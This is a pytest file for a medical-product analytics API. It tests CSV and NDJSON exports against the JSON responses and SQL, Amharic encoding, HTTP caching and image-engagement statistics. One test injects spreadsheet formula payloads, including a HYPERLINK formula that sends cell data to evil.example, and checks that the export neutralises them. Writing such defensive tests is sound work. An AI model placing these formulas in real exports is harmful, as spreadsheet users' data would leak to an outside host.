"""Downloads (CSV, NDJSON) and HTTP caching of the analytical API, and the visual report's engagement, on the
shared sample's warehouse: CSV rows against the JSON items and SQL written here, Amharic through Excel's
UTF-8, the formula guard, the bounds; ETag / Last-Modified that move with a build and only then, and a
304 that runs no statement."""
from __future__ import annotations

import csv
import io
import json
import time
from contextlib import contextmanager
from datetime import timezone

import psycopg2
import pytest
from fastapi.testclient import TestClient
from helpers import query

from medical_etl.api.app import create_app
from medical_etl.api.exports import BOM, FORMULA_START

REPORTS = [  # (url, the JSON list the CSV gives)
    ("/api/reports/top-products?limit=12", "items"),
    ("/api/reports/top-products?limit=5&group=generic&since=2026-01-12", "items"),
    ("/api/products/amoxicillin/prices", "points"),
    ("/api/channels", "items"),
    ("/api/channels/tikvahpharma/activity?granularity=day", "periods"),
    ("/api/search/messages?query=vitamin&limit=7", "items"),
    ("/api/reports/visual-content", "channels"),
    ("/api/reports/visual-content?since=2026-01-13&until=2026-01-15", "channels"),
]


@pytest.fixture(scope="module")
def wh(sample_warehouse):
    return sample_warehouse


@pytest.fixture(scope="module")
def app(wh):
    return create_app(wh.params, logs_path=wh.settings.logs_path, lake_path=wh.settings.raw_data_path)


@pytest.fixture(scope="module")
def client(app):
    with TestClient(app) as c:
        yield c


@pytest.fixture(scope="module")
def db(wh):
    c = psycopg2.connect(**wh.params.kwargs())
    yield c
    c.close()


def rows_of(response) -> tuple[list[str], list[dict]]:
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(BOM.encode("utf-8"))  # Excel reads UTF-8 (Amharic) only with it
    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))
    return reader.fieldnames, list(reader)


def flat(item: dict, prefix: str = "") -> dict:
    out = {}
    for k, v in item.items():
        if isinstance(v, dict):
            out.update(flat(v, f"{prefix}{k}."))
        else:
            out[f"{prefix}{k}"] = v
    return out


def same(cell: str, value) -> bool:
    """A CSV cell says what the JSON value says (numbers as numbers, lists joined by '; ', text guarded)."""
    if value is None:
        return cell == ""
    if isinstance(value, bool):
        return cell == str(value).lower()
    if isinstance(value, (int, float)):
        return float(cell) == float(value)
    if isinstance(value, list):
        value = "; ".join(map(str, value))
    return cell == (("'" + value) if value.startswith(FORMULA_START) else value)


@pytest.mark.parametrize("url,key", REPORTS)
def test_csv_and_ndjson_rows_equal_the_json_items(client, url, key):
    items = client.get(url).json()[key]
    assert items, url
    header, rows = rows_of(client.get(url + "&format=csv" if "?" in url else url + "?format=csv"))
    assert header == list(flat(items[0]))  # the JSON item's fields, in order, nested ones spread
    assert len(rows) == len(items)
    for row, item in zip(rows, items, strict=True):
        f = flat(item)
        assert all(same(row[c], f[c]) for c in header), (row, f)
    # asked with Accept instead, and as NDJSON
    by_accept = client.get(url, headers={"Accept": "text/csv"})
    assert by_accept.content == client.get(url + ("&" if "?" in url else "?") + "format=csv").content
    nd = client.get(url + ("&" if "?" in url else "?") + "format=ndjson")
    assert nd.headers["content-type"] == "application/x-ndjson"
    assert [json.loads(line) for line in nd.text.splitlines()] == items
    assert nd.headers["content-disposition"].endswith('.ndjson"')


def test_top_products_csv_against_sql(client, db):
    _, rows = rows_of(client.get("/api/reports/top-products?limit=10&format=csv"))
    expected = query(db, """SELECT lower(d.product_name), count(*), min(f.price_birr), max(f.price_birr)
                            FROM marts.fct_product_prices AS f JOIN marts.dim_products AS d USING (product_key)
                            GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 10""")
    assert [(r["product"], int(r["mentions"]), float(r["min_price_birr"]), float(r["max_price_birr"]))
            for r in rows] == [(p, n, float(lo), float(hi)) for p, n, lo, hi in expected]


def test_the_download_is_an_attachment_named_after_the_report_and_the_build(client, db):
    built = query(db, "SELECT built_at FROM raw.warehouse_version")[0][0]
    r = client.get("/api/reports/top-products?format=csv")
    assert r.headers["content-disposition"] == \
        f'attachment; filename="top-products-{built.astimezone(timezone.utc).date().isoformat()}.csv"'
    r = client.get("/api/channels/tikvahpharma/activity?format=csv")
    assert 'filename="channel-activity-tikvahpharma-' in r.headers["content-disposition"]


def test_amharic_round_trips_through_the_csv(client, db):
    word = "ዋጋ"
    items = client.get(f"/api/search/messages?query={word}&limit=50").json()["items"]
    _, rows = rows_of(client.get(f"/api/search/messages?query={word}&limit=50&format=csv"))
    assert len(rows) == len(items) >= 2
    texts = {(c, m): t for c, m, t in query(db, "SELECT channel_username, message_id, message_text FROM marts.fct_messages")}
    for row in rows:
        assert word in row["text"] and row["text"] == texts[(row["channel"], int(row["message_id"]))]


@contextmanager
def hostile_post(db, text_prefix: str):
    """One post (a vitamin post) whose text starts with ``text_prefix`` for the test's duration."""
    key, text = query(db, """SELECT message_key, message_text FROM marts.fct_messages
                             WHERE message_text ILIKE '%%vitamin%%' ORDER BY message_key LIMIT 1""")[0]
    with db.cursor() as cur:
        cur.execute("UPDATE marts.fct_messages SET message_text = %s WHERE message_key = %s", (text_prefix + text, key))
    db.commit()
    try:
        yield key
    finally:
        with db.cursor() as cur:
            cur.execute("UPDATE marts.fct_messages SET message_text = %s WHERE message_key = %s", (text, key))
        db.commit()


@pytest.mark.parametrize("prefix", ['=HYPERLINK("http://evil.example/?"&A1,"prices") ', "+251911", "-2+3 ", "@SUM(1) "])
def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(client, db, prefix):
    with hostile_post(db, prefix):
        json_items = client.get("/api/search/messages?query=vitamin&limit=100").json()["items"]
        _, rows = rows_of(client.get("/api/search/messages?query=vitamin&limit=100&format=csv"))
    hostile = [r for r in rows if r["text"].lstrip("'").startswith(prefix)]
    assert len(hostile) == 1
    assert hostile[0]["text"].startswith("'" + prefix)  # shown as text in Excel, LibreOffice, Sheets
    assert sum(i["text"].startswith(prefix) for i in json_items) == 1  # the JSON keeps the text as it is
    assert not any(cell.startswith(FORMULA_START) for r in rows for k, cell in r.items()
                   if k not in ("views", "rank", "message_id"))


def test_downloads_have_the_json_bounds(client):
    assert client.get("/api/reports/top-products?limit=201&format=csv").status_code == 422
    assert client.get("/api/search/messages?query=vitamin&limit=101&format=csv").status_code == 422
    assert client.get("/api/reports/top-products?format=xlsx").status_code == 422
    _, rows = rows_of(client.get("/api/reports/top-products?limit=3&format=csv"))
    assert len(rows) == 3


# --- caching ---------------------------------------------------------------------------------------

def _count_statements(app):
    """Count the statements the app's connection pool runs (wraps each cursor's execute)."""
    pool, counted = app.state.pool, []
    original = pool.cursor

    @contextmanager
    def counting():
        with original() as cur:
            execute = cur.execute

            def traced(sql, args=None):
                counted.append(sql)
                return execute(sql, args)

            cur.execute = traced
            yield cur

    pool.cursor = counting
    return counted, lambda: setattr(pool, "cursor", original)


def test_a_304_runs_no_query_and_the_etag_moves_with_a_build_only(app, client, wh):
    from medical_etl.load import load_raw_to_postgres
    from medical_etl.transform import run_dbt_transformations

    url = "/api/reports/top-products?limit=5"
    first = client.get(url)
    tag, modified = first.headers["etag"], first.headers["last-modified"]
    assert tag.startswith('W/"') and first.headers["cache-control"].startswith("private, max-age=")
    assert client.get(url + "&format=csv").headers["etag"] != tag  # another representation
    assert client.get(url.replace("5", "6")).headers["etag"] != tag

    counted, restore = _count_statements(app)
    reads = app.state.warehouse_version.reads
    try:
        again = client.get(url, headers={"If-None-Match": tag})
        since = client.get(url, headers={"If-Modified-Since": modified})
    finally:
        restore()
    assert again.status_code == 304 and again.content == b"" and again.headers["etag"] == tag
    assert since.status_code == 304
    assert counted == [] and app.state.warehouse_version.reads == reads  # nothing asked of the database

    # what is not a build leaves it: a load with nothing new, other requests, time
    load_raw_to_postgres(wh.params, wh.settings.raw_data_path)
    client.get("/api/channels")
    assert client.get(url).headers["etag"] == tag

    # a build moves it (the on-run-end hook announces the new version; the API hears it without asking)
    s = run_dbt_transformations(wh.params, select=["dim_dates"], check_freshness=False)
    assert s["status"] == "success"
    deadline = time.monotonic() + 5
    while client.get(url).headers["etag"] == tag and time.monotonic() < deadline:
        time.sleep(0.05)
    after = client.get(url, headers={"If-None-Match": tag})
    assert after.status_code == 200 and after.headers["etag"] != tag and after.json()["items"]
    assert after.headers["last-modified"] != modified or after.headers["etag"] != tag


def test_status_keeps_its_short_cache_and_errors_are_not_cached(client):
    r = client.get("/api/pipeline/status")
    assert r.status_code == 200 and "etag" not in r.headers
    bad = client.get("/api/channels/no-such-channel/activity")
    assert bad.status_code == 404 and "etag" not in bad.headers


# --- engagement by image ---------------------------------------------------------------------------

ENGAGEMENT_SQL = """
WITH posts AS (
    SELECT m.channel_username AS channel, m.views,
           CASE WHEN NOT m.has_image THEN 'without_photo' ELSE coalesce(c.image_category, 'not_analysed') END AS g
    FROM marts.fct_messages AS m
    LEFT JOIN marts.fct_image_categories AS c ON c.message_key = m.message_key
    WHERE (%(lo)s::date IS NULL OR (m.message_date AT TIME ZONE 'UTC')::date >= %(lo)s::date)
      AND (%(hi)s::date IS NULL OR (m.message_date AT TIME ZONE 'UTC')::date <= %(hi)s::date)
), grouped AS (
    SELECT channel, g, views FROM posts
    UNION ALL SELECT channel, 'with_photo', views FROM posts WHERE g <> 'without_photo'
)
SELECT coalesce(channel, '*'), g, count(*), round(avg(views), 1), percentile_cont(0.5) WITHIN GROUP (ORDER BY views)
FROM grouped GROUP BY GROUPING SETS ((channel, g), (g))
"""


@pytest.mark.parametrize("lo,hi", [(None, None), ("2026-01-13", "2026-01-14")])
def test_engagement_by_image_matches_sql(client, db, lo, hi):
    url = "/api/reports/visual-content" + (f"?since={lo}&until={hi}" if lo else "")
    r = client.get(url).json()
    expected = {(ch, g): (n, float(avg), float(med)) for ch, g, n, avg, med in query(db, ENGAGEMENT_SQL, dict(lo=lo, hi=hi))}
    got = {}
    for c in r["channels"]:
        for g, e in c["engagement"].items():
            if e["posts"]:
                got[(c["channel"], g)] = (e["posts"], e["avg_views"], e["median_views"])
    for g, e in r["engagement"].items():
        if e["posts"]:
            got[("*", g)] = (e["posts"], e["avg_views"], e["median_views"])
    assert got == expected
    assert {"with_photo", "without_photo", "promotional", "product_display", "lifestyle", "other"} <= \
        {g for _, g in got}
    if lo:  # the window's posts and categories, not all of them
        n = query(db, """SELECT count(*) FROM marts.fct_messages
                         WHERE (message_date AT TIME ZONE 'UTC')::date BETWEEN %s AND %s""", (lo, hi))[0][0]
        assert sum(c["posts"] for c in r["channels"]) == n
